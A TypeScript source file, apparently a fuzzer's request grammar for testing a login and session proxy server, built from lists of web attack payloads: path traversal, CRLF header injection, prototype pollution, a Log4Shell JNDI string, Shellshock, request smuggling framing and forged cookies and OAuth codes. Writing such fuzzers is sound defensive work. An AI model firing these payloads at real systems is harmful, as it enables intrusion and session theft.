/**
 * Requests as attackers write them: every part of one by chance, from what the addresses take, what
 * has broken other servers, and noise. What a part means is known, so that it is known whether a
 * request may have an effect.
 */
import type { Dice } from '../../several/dice'
import { origin } from '../../stage'
import type { Shot } from './volley'

/** What a browser that signed in holds. */
export interface Loot {
  /** Genuine cookies of accounts, by name. */
  accounts: ReadonlyMap<string, string>
  /** Genuine cookies of logins under way. */
  logins: ReadonlyMap<string, string>
}

const providers = ['onet', 'konpro', 'onesait', 'gearcode', 'seznam']
const strangers = ['nobody', '__proto__', 'constructor', 'toString', 'ONET', 'one%74', '', '%', 'é']

/** Segments that one reader or another takes for something else. */
const odd = [
  ...['.', '..', '%2e', '%2e%2e', '.%2e', '%2E.', '...', 'x.', 'x%20', '%09', '%00', '%0d%0aX:1'],
  ...['%2f', '%5c', '\\', '\\..\\', '%252e', '%25', '%', '%z', '%zz', '%E0%A4%A', '%ff', '%c0%ae'],
  ...[';', ';x', '..;', ':', '@evil.example', '//evil.example', '[::1]', '*', '~', '|', '^', '`'],
  ...[
    '%EF%BC%8F',
    '%e2%80%ae',
    '<script>',
    '"',
    "'",
    '{}',
    '$&',
    'a'.repeat(2000),
    '',
    '',
    '?',
    '#',
  ],
]

const values = [
  ...['', '/', '/accounts/seznam', '//evil.example', '/\\evil.example', 'javascript:alert(1)', '%'],
  ...[
    '%00',
    '%zz',
    '%ff%fe',
    '%F0%9F%92%A9',
    '%0d%0aSet-Cookie:%20x=1',
    '[object%20Object]',
    'null',
  ],
  ...[
    'undefined',
    'NaN',
    '-1',
    '1e400',
    '{"__proto__":{"x":1}}',
    'x'.repeat(3000),
    'true',
    '../..',
  ],
]

const names = [
  ...[
    'return_to',
    'display',
    'code',
    'state',
    'error',
    'error_description',
    'iss',
    'scope',
    'client_id',
  ],
  ...[
    'access_token',
    'refresh_token',
    'latchkey_ticket',
    '__proto__[x]',
    'constructor.prototype.x',
  ],
  ...['_method', 'a', 'a[]', '', '%', '%zz', 'X'],
]

const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']
const oddMethods = ['TRACE', 'PROPFIND', 'MKCOL', 'SEARCH', 'PURGE', 'LOCK', 'M-SEARCH', 'REPORT']

/** Where our own cookies would be, and what they would be called by whoever guesses. */
const cookieNames = [
  ...[
    '__Host-latchkey_seznam_aaaaaaaa',
    '__host-latchkey_seznam_aaaaaaaa',
    'latchkey_onet_aaaaaaaa',
  ],
  ...[
    '__Host-latchkey_login_aaaaaaaa',
    '__Host-latchkey_logout_onet',
    '__Host-latchkey___proto___x',
  ],
  ...[
    '__proto__',
    'constructor',
    '__Host-latchkey_seznam_.0',
    '__Host-latchkey_seznam_aaaaaaaa.999999',
  ],
  ...['\xa0__Host-latchkey_seznam_aaaaaaaa', '', '=', 'a b', 'x'.repeat(300)],
]

const cookieValues = [
  ...[
    '',
    '"quoted"',
    '%',
    '%zz',
    '%E0%A4%A',
    '%00',
    '\x01\x02',
    '\xff\xfe',
    '{"a":1}',
    'a,b',
    'a b',
  ],
  ...[
    'eyJhbGciOiJkaXIifQ....',
    'eyJhbGciOiJub25lIn0.e30.',
    'Fe26.2*1*2*3',
    'x'.repeat(4097),
    '....',
  ],
  ...['e30.e30.e30.e30.e30', 'bnVsbA....', '__proto__'],
]

const bodies: (() => Buffer)[] = [
  '',
  '{}',
  '[]',
  'null',
  '{"token":"access"}',
  '{"token":{"__proto__":{"x":1}}}',
  '{"path":"/v1/things"}',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}',
  '{"username":1,"password":[]}',
  '{"username":"\\ud800","password":"\\u0000"',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `{"username":"${'x'.repeat(20_000)}","password":"y"}`,
  'username=a&password=b&_method=DELETE',
  '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n',
  '\x00\xff\xfe\xfd',
].map((text) => () => Buffer.from(text, 'latin1'))

const types = [
  ...[
    'application/json',
    'text/plain',
    'TEXT/PLAIN',
    'text/plain; application/json',
    'application/csp-report',
  ],
  ...[
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/json; charset=utf-16',
  ],
  ...['', ';', 'a/b/c', '\xff', 'application/problem+json'],
]

/** Headers that change what other servers do. */
const oddHeaders: readonly (readonly [string, readonly string[]])[] = [
  ['X-Forwarded-For', ['1.2.3.4', '::1', "'", '127.0.0.1, 127.0.0.1', '\xff']],
  ['X-Forwarded-Host', ['evil.example', '', 'a, b']],
  ['X-Forwarded-Proto', ['http', 'javascript']],
  ['X_Forwarded_For', ['1.2.3.4']],
  ['Forwarded', ['for=1.2.3.4;host=evil.example', 'for="[::1', ';;;,,,']],
  ['X-Original-URL', ['/bff/session', '/healthz']],
  ['X-Rewrite-URL', ['/bff/session']],
  ['X-HTTP-Method-Override', ['DELETE', 'GET', '']],
  ['X-Method-Override', ['DELETE']],
  [
    'Authorization',
    ['Bearer %zz', 'Bearer', 'Basic =', 'Bearer \xff', 'Basic Og==', 'Bearer '.repeat(50)],
  ],
  ['Accept', ['*/*', 'text/event-stream', 'application/json;q=zz', ',,,', 'x'.repeat(2000)]],
  ['Accept-Encoding', ['gzip, br', 'gzip;q=nan', '*;q=0', 'identity']],
  ['Accept-Language', ['cs', '*', '-', 'x'.repeat(500)]],
  ['Range', ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'bytes=0-,0-,0-', 'x']],
  ['If-None-Match', ['*', '"x"', 'W/', '"', ',,,']],
  ['If-Modified-Since', ['Thu, 01 Jan 1970 00:00:00 GMT', 'never', '99999999999999']],
  ['If-Range', ['"x"', 'never']],
  ['Referer', ['https://evil.example/', 'javascript:1', '%']],
  ['User-Agent', ['', '() { :;}; x', '${jndi:ldap://evil.example/x}']],
  ['Sec-Purpose', ['prefetch', 'prefetch;prerender', '']],
  ['Purpose', ['prefetch']],
  ['Upgrade', ['websocket', 'h2c', '']],
  ['TE', ['trailers', 'chunked']],
  ['Trailer', ['Cookie']],
  ['Content-Encoding', ['gzip', 'br, gzip', 'x']],
  ['Access-Control-Request-Method', ['PATCH', '', '%']],
  ['Access-Control-Request-Headers', ['x-latchkey', ' '.repeat(4000), ',,,']],
  ['Connection', ['keep-alive, authorization', 'keep-alive, x-latchkey', 'keep-alive, cookie']],
  ['Keep-Alive', ['timeout=0', 'x']],
  ['Proxy-Authorization', ['Basic eDp5']],
  ['Proxy-Connection', ['close']],
  ['Max-Forwards', ['0']],
  ['__proto__', ['x']],
  ['constructor', ['x']],
  ['X-Latchkey', ['0', '', '1, 1', 'true']],
  ['X-Request-Id', ['x'.repeat(500), '\x1b[31m', '{}']],
  ['X-Noise', ['x'.repeat(4000), '\x80\x9f', '\t']],
]

/** Makes requests until nobody asks for more. */
export function createGrammar(dice: Dice, loot: Loot) {
  const { below, oneOf, shuffled } = dice
  const chance = (percent: number) => below(100) < percent
  const some = <T>(most: number, make: () => T): T[] =>
    Array.from({ length: below(most + 1) }, make)

  const provider = () => oneOf(chance(85) ? providers : strangers)
  const segments = (most: number) =>
    some(most, () => oneOf(chance(50) ? odd : ['v1', 'things', 'user', 'x', '1'])).join('/')
  const knownPaths: (() => string)[] = [
    () => `/bff/session`,
    () => `/bff/providers`,
    () => `/bff/openapi.json`,
    () => `/bff/cookies`,
    () => `/bff/login/${provider()}`,
    () => `/bff/callback/${provider()}`,
    () => `/bff/tickets/${provider()}`,
    () => `/bff/accounts/${provider()}`,
    () => `/bff/accounts/${provider()}/${oneOf(['profile', 'refresh', 'check', 'revoke', 'x'])}`,
    () => `/bff/api/${provider()}/${segments(6)}`,
    () => `/bff/api/gearcode/v1/${segments(4)}`,
    () => `/${oneOf(['', 'accounts/seznam', 'callback/konpro', 'healthz', 'readyz', 'metrics'])}`,
    () =>
      `/${oneOf(['assets/', 'index.html', '.env', 'assets/..%2f..%2fproxy/node.js', '_headers'])}`,
    () => `/${segments(8)}`,
  ]
  /** The same path, as another server might read it. */
  const variants: ((path: string) => string)[] = [
    (path) => path.replace('/', '//'),
    (path) => path.replace(/\/(?=[^/]*$)/, '//'),
    (path) => `${path}/`,
    (path) => path.toUpperCase(),
    (path) => path.replace(/s/, '%73'),
    (path) => `${path};x`,
    (path) => `${path}%2f`,
    (path) => `${path}%00`,
    (path) => `/x/..${path}`,
    (path) => `/.${path}`,
    (path) => path.replaceAll('/', '\\'),
    (path) => `http://evil.example${path}`,
    (path) => `https://user:pw@evil.example:99${path}`,
    (path) => `${path}#fragment`,
    (path) => path.slice(1),
    () => '*',
  ]

  const query = () =>
    chance(40)
      ? `?${some(5, () => `${oneOf(names)}${oneOf(['=', '=', '=', '', '=='])}${oneOf(values)}`).join(oneOf(['&', '&', '&', ';', '&&']))}`
      : ''

  function target(): string {
    const path = oneOf(knownPaths)()
    const varied = chance(15) ? oneOf(variants)(path) : path
    // What would end the line is no part of this grammar: bytes are mutated elsewhere.
    return (varied + query()).replaceAll(/[\s\x00-\x1f]/g, '') || '/'
  }

  /** A genuine value that was changed somewhere: never the genuine one. */
  function forged(value: string): string {
    // Not in its last character, whose lowest bits say nothing (RFC 4648 §3.5).
    const at = below(value.length - 1)
    const now = value.charAt(at)
    switch (below(5)) {
      case 0:
        return value.slice(0, at)
      case 1:
        return value.slice(0, at) + value.slice(at + 1)
      case 2:
        return `${value.slice(0, at)}${now === 'A' ? 'B' : 'A'}${value.slice(at + 1)}`
      case 3:
        return `${value.slice(0, at)}${oneOf(['%', '%zz', '.', '..', '\xff', '=', '/', '+'])}${value.slice(at)}`
      default:
        return value + value
    }
  }

  const oneCookie = (): string => {
    const genuine = [...loot.accounts, ...loot.logins]
    const named = () => (chance(60) ? oneOf(genuine)[0] : oneOf(cookieNames))
    if (chance(60)) return `${named()}=${forged(oneOf(genuine)[1])}`
    return `${named()}${chance(95) ? '=' : ''}${oneOf(cookieValues)}`
  }
  const textOf = (cookies: ReadonlyMap<string, string>) =>
    [...cookies].map(([name, value]) => `${name}=${value}`)
  const forgedCookies = (): string[] =>
    chance(2)
      ? Array.from({ length: 51 }, (_, index) => `${oneOf(cookieNames)}.${index}=x`)
      : some(4, oneCookie)

  const headerLines = (lines: readonly (readonly [string, string])[]) =>
    lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')

  /** What a browser says of where a request comes from. */
  const sender = (ours: boolean): [string, string][] => [
    ...(ours || chance(20) ? ([['X-Latchkey', '1']] as [string, string][]) : []),
    ...(chance(30)
      ? ([
          ['Origin', oneOf([origin, 'null', 'https://evil.example', `${origin}.evil`, '', '%'])],
        ] as [string, string][])
      : []),
    ...(chance(30)
      ? ([
          [
            'Sec-Fetch-Site',
            oneOf(['same-origin', 'same-site', 'cross-site', 'none', 'bogus', '']),
          ],
          ['Sec-Fetch-Mode', oneOf(['navigate', 'cors', 'no-cors', 'websocket'])],
          ['Sec-Fetch-Dest', oneOf(['document', 'empty', 'image', 'iframe', 'x'])],
        ] as [string, string][])
      : []),
  ]

  function framed(body: Buffer): { lines: [string, string][]; bytes: Buffer } {
    if (body.length === 0 && chance(70)) return { lines: [], bytes: body }
    if (chance(60)) return { lines: [['Content-Length', String(body.length)]], bytes: body }
    const pieces: Buffer[] = []
    for (let at = 0; at < body.length;) {
      const size = 1 + below(Math.max(1, body.length))
      const piece = body.subarray(at, at + size)
      const extension = chance(20) ? ';x="y"' : ''
      pieces.push(
        Buffer.from(`${piece.length.toString(16)}${extension}\r\n`),
        piece,
        Buffer.from('\r\n'),
      )
      at += size
    }
    pieces.push(Buffer.from(chance(20) ? '0\r\nCookie: a=b\r\nX-Latchkey: 1\r\n\r\n' : '0\r\n\r\n'))
    return {
      lines: [['Transfer-Encoding', oneOf(['chunked', 'Chunked', 'CHUNKED'])]],
      bytes: Buffer.concat(pieces),
    }
  }

  function written(method: string, path: string, lines: [string, string][], body: Buffer): Shot {
    const framing = framed(body)
    const host = chance(90)
      ? 'app.example'
      : oneOf(['evil.example', '[::1]:99', 'app.example.', 'a:b', '127.0.0.1'])
    const all = shuffled([['Host', host] as [string, string], ...lines, ...framing.lines])
    const head = `${method} ${path} HTTP/1.1\r\n${headerLines(all)}\r\n`
    return {
      bytes: Buffer.concat([Buffer.from(head, 'latin1'), framing.bytes]),
      method,
      isWild: false,
    }
  }

  const oddLines = () =>
    some(3, (): [string, string] => {
      const [name, texts] = oneOf(oddHeaders)
      return [name, oneOf(texts)]
    })
  const typed = (): [string, string][] => (chance(50) ? [['Content-Type', oneOf(types)]] : [])
  const cookieLine = (cookies: readonly string[]): [string, string][] =>
    cookies.length > 0 ? [['Cookie', cookies.join(oneOf(['; ', ';', ';;', ' ; ']))]] : []

  /** Nobody who is signed in: whatever it asks for, it has no right to. */
  function byStranger(): Shot {
    const method = oneOf(chance(95) ? methods : oddMethods)
    const path = target()
    // A stranger may try a password, which is asked of the provider.
    const body = method === 'POST' && /onesait/i.test(path) ? Buffer.from('{') : oneOf(bodies)()
    const lines = [...sender(chance(60)), ...typed(), ...oddLines(), ...cookieLine(forgedCookies())]
    return written(method, path, lines, body)
  }

  /** Somebody's genuine cookies, from a page of somebody else's: it lacks our header. */
  function fromElsewhere(): Shot {
    const lines = [...sender(false), ...typed(), ...oddLines()].filter(
      ([name]) => name !== 'X-Latchkey',
    )
    const cookies = [...textOf(loot.accounts), ...some(2, oneCookie)]
    const path = target().replaceAll('/callback/', '/nowhere/')
    return written(oneOf(methods), path, [...lines, ...cookieLine(cookies)], oneOf(bodies)())
  }

  /** A genuine login under way, and somebody else's code. */
  function toCallback(): Shot {
    const answer = oneOf([
      'code=stolen&state=',
      'code=stolen',
      'code=stolen&state=undefined',
      `code=stolen&state=${'A'.repeat(43)}`,
      `code=a&code=b&state=${'A'.repeat(43)}`,
      `error=access_denied&state=${'A'.repeat(43)}`,
      '',
      'state[]=x&code=stolen',
    ])
    const path = `/bff/callback/${oneOf(providers)}?${answer}${chance(30) ? `&${oneOf(names)}=${oneOf(values)}` : ''}`
    return written(
      'GET',
      path,
      [...oddLines(), ...cookieLine(textOf(loot.logins))],
      Buffer.alloc(0),
    )
  }

  /** Somebody signed in, by the app: reads, and calls to an API that no other request may reach. */
  function byOwner(): Shot {
    const path = oneOf([
      () => '/bff/session',
      () => `/bff/accounts/${oneOf(['gearcode', 'seznam'])}`,
      () => `/bff/api/gearcode/v1/${segments(4)}${query()}`,
      () => `/bff/api/gearcode/${segments(4)}`,
    ])().replaceAll(/[\s\x00-\x1f#]/g, '')
    const method = path.startsWith('/bff/api') ? oneOf(methods) : 'GET'
    const cookies = [...textOf(loot.accounts), ...some(1, () => oneOf(cookieValues))]
    const lines: [string, string][] = [
      ['X-Latchkey', '1'],
      ...typed(),
      ...oddLines(),
      ...cookieLine(cookies),
    ]
    return written(method, path, lines, method === 'GET' ? Buffer.alloc(0) : oneOf(bodies)())
  }

  /** Bytes of a stranger's request, or of one from elsewhere, changed wherever it happens. */
  function wild(): Shot {
    const { bytes, method } = chance(70) ? byStranger() : fromElsewhere()
    return { bytes: mutated(bytes), method, isWild: true }
  }

  const tokens = [
    ...[
      '\r\n',
      '\n',
      '\r',
      '\0',
      ' ',
      ':',
      '\t',
      '\r\n\r\n',
      'Content-Length: 5\r\n',
      'Host: x\r\n',
    ],
    ...[
      'Transfer-Encoding: chunked\r\n',
      'Transfer-Encoding: xchunked\r\n',
      '\r\n ',
      'HTTP/1.0',
      'HTTP/9.9',
    ],
    ...[
      'Content-Length: -1\r\n',
      'Content-Length: 99999999999999999999\r\n',
      '%',
      '\xff',
      'GET / HTTP/1.1\r\n',
    ],
    ...[
      'Expect: 100-continue\r\n',
      'Expect: x\r\n',
      'Connection: close\r\n',
      'Connection: upgrade\r\nUpgrade: x\r\n',
    ],
  ].map((text) => Buffer.from(text, 'latin1'))

  function mutated(bytes: Buffer): Buffer {
    let result = bytes
    for (let times = 1 + below(6); times > 0; times--) {
      // Mostly where it is read first.
      const at = below(chance(70) ? Math.min(result.length, 300) : result.length)
      const end = Math.min(result.length, at + 1 + below(40))
      const [before, cut, after] = [
        result.subarray(0, at),
        result.subarray(at, end),
        result.subarray(end),
      ]
      switch (below(6)) {
        case 0:
          result = Buffer.concat([before, Buffer.from([below(256)]), result.subarray(at + 1)])
          break
        case 1:
          result = Buffer.concat([before, oneOf(tokens), result.subarray(at)])
          break
        case 2:
          result = Buffer.concat([before, after])
          break
        case 3:
          result = Buffer.concat([before, cut, cut, after])
          break
        case 4:
          result = chance(20) ? before : Buffer.concat([before, oneOf(tokens), after])
          break
        default:
          result = Buffer.concat([
            before,
            Buffer.from([(result[at] ?? 0) ^ (1 << below(8))]),
            result.subarray(at + 1),
          ])
      }
    }
    return result
  }

  const kinds = [
    byStranger,
    byStranger,
    byStranger,
    fromElsewhere,
    fromElsewhere,
    toCallback,
    byOwner,
    byOwner,
  ]
  return {
    /** The requests of one connection. */
    next: (): Shot[] => [
      ...Array.from({ length: 1 + below(20) }, () => oneOf(kinds)()),
      ...(chance(90) ? [wild()] : []),
    ],
  }
}
